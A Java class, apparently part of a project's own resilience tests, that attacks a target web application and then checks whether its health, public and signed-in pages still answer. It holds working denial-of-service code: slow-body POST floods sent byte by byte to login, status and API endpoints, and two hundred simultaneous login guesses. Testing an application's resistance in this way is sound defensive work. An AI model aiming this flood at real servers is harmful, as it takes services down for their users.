package pl.hejnal.attack.flood;

import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;
import pl.hejnal.attack.AttackTarget;
import pl.hejnal.attack.web.SignedInPerson;
import pl.hejnal.attack.web.Visitor;
import pl.hejnal.attack.web.Wire;

/** Many strangers who ask at once and hold on until closed; meanwhile it is asked whether people can work. */
public final class Crowd implements AutoCloseable {

    private static final String OK = "HTTP/1.1 200 ";
    private static final int BODIES = 100;
    private static final long HALF_A_SECOND = 500;
    private static final int GUESSES = 200;
    private static final String FORM = "\r\nHost: 127.0.0.1\r\nContent-Type: application/x-www-form-urlencoded\r\n";
    private static final List<String> BEGINNINGS = List.of(
            "POST /login.xhtml HTTP/1.1" + FORM + "Content-Length: 9000\r\n\r\nlogin=",
            "POST /status.xhtml HTTP/1.1" + FORM + "Transfer-Encoding: chunked\r\n\r\n1000\r\nask=",
            "POST /status.xhtml HTTP/1.1" + FORM + "Expect: 100-continue\r\nContent-Length: 9000\r\n\r\nask=",
            "POST /api/v1/calls HTTP/1.1" + FORM + "Content-Length: 9000\r\n\r\nx=");
    private final List<Wire> wires = new ArrayList<>();
    private final CountDownLatch over = new CountDownLatch(1);

    private Crowd() {}

    /** A hundred bodies that come a byte at a time, by everybody's pages, of known and of unknown length. */
    public static Crowd ofSlowBodies(AttackTarget target) throws IOException {
        Crowd crowd = new Crowd();
        for (int i = 0; i < BODIES; i++) {
            crowd.hang(target, BEGINNINGS.get(i % BEGINNINGS.size()));
        }
        crowd.drip();
        return crowd;
    }

    /** Two hundred guesses at once, each of which is slow to check on purpose. */
    public static Crowd ofGuesses(AttackTarget target) throws IOException, InterruptedException {
        Crowd crowd = new Crowd();
        Visitor visitor = new Visitor(target);
        for (int i = 0; i < GUESSES; i++) {
            String body = "login=login&login%3Aname=nobody" + i + "&login%3Apassword=guess&login%3Asubmit="
                    + "&jakarta.faces.ViewState=" + visitor.viewState();
            crowd.hang(
                    target,
                    "POST /login.xhtml HTTP/1.1" + FORM + "Connection: close\r\n" + visitor.cookie()
                            + "Content-Length: " + body.length() + "\r\n\r\n" + body);
        }
        return crowd;
    }

    /** One more hangs; a server that closes at once is no attacker's trouble. */
    private void hang(AttackTarget target, String beginning) throws IOException {
        Wire wire = Wire.ofAStranger(target);
        wires.add(wire);
        write(wire, beginning);
    }

    /** Sends a byte on each connection every half second, so that none of them is silent. */
    private void drip() {
        Thread.ofVirtual().start(() -> {
            try {
                while (!over.await(HALF_A_SECOND, TimeUnit.MILLISECONDS)) {
                    wires.forEach(wire -> write(wire, "a"));
                }
            } catch (InterruptedException end) {
                Thread.currentThread().interrupt();
            }
        });
    }

    private static void write(Wire wire, String text) {
        try {
            wire.write(text);
        } catch (IOException closed) {
            return;
        }
    }

    /** @return what did not work: health, the public page, signing in, the desk of somebody who is signed in */
    public static Optional<String> work(AttackTarget target, SignedInPerson known) throws InterruptedException {
        String what = "health";
        try {
            if (!Wire.health(target, "/live").startsWith(OK)
                    || !Wire.health(target, "/ready").startsWith(OK)) {
                return Optional.of("health was not answered");
            }
            what = "the public page";
            if (!Wire.answer(target, "GET /status.xhtml HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
                    .startsWith(OK)) {
                return Optional.of("the public page was not answered");
            }
            what = "the desk of somebody who is signed in";
            if (known.get("/calls/desk.xhtml").statusCode() != 200) {
                return Optional.of("the desk of somebody who is signed in was not answered");
            }
            return Optional.empty();
        } catch (IOException failed) {
            return Optional.of(what + " was not answered: " + failed);
        }
    }

    @Override
    public void close() throws IOException {
        over.countDown();
        for (Wire wire : wires) {
            wire.close();
        }
    }
}
